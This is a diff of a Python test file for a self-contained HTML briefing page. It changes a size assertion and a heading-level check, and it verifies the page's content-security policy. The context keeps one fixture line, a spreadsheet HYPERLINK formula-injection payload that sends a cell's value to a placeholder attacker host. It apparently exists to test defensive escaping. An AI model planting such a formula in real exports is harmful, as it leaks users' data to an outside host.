@@ -16,7 +16,6 @@ from experiments.briefing import folder as folders
 from experiments.briefing.folder import check_free, make, publish
 from experiments.briefing.results import read
 from experiments.cli import main
-from experiments.page import packed_plotly
 from scenarios.problems import InputError
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -46,7 +45,7 @@ def test_the_page_is_self_contained_and_small(files):
     html = files["briefing.html"].decode()
     page = Reader(html)
     assert page.all("html") == [{"lang": "en-GB"}] and html.count("<title>") == 1
-    assert len(html.encode()) - len(packed_plotly()) < 500_000
+    assert len(html.encode()) < 1_500_000
     policy = next(a["content"] for a in page.all("meta") if a.get("http-equiv") == "Content-Security-Policy")
     assert policy.startswith("default-src 'none';") and "http" not in policy
     assert [a for _, a in page.elements if "src" in a or "srcset" in a or "action" in a] == []
@@ -240,7 +239,7 @@ class Headings(HTMLParser):
         self.feed(html)
 
     def handle_starttag(self, tag, attributes):
-        if re.fullmatch(r"h[1-6]", tag):
+        if re.fullmatch(r"h[1-4]", tag):  # single pictures of a chart are below
             self.levels.append(int(tag[1]))
 
 
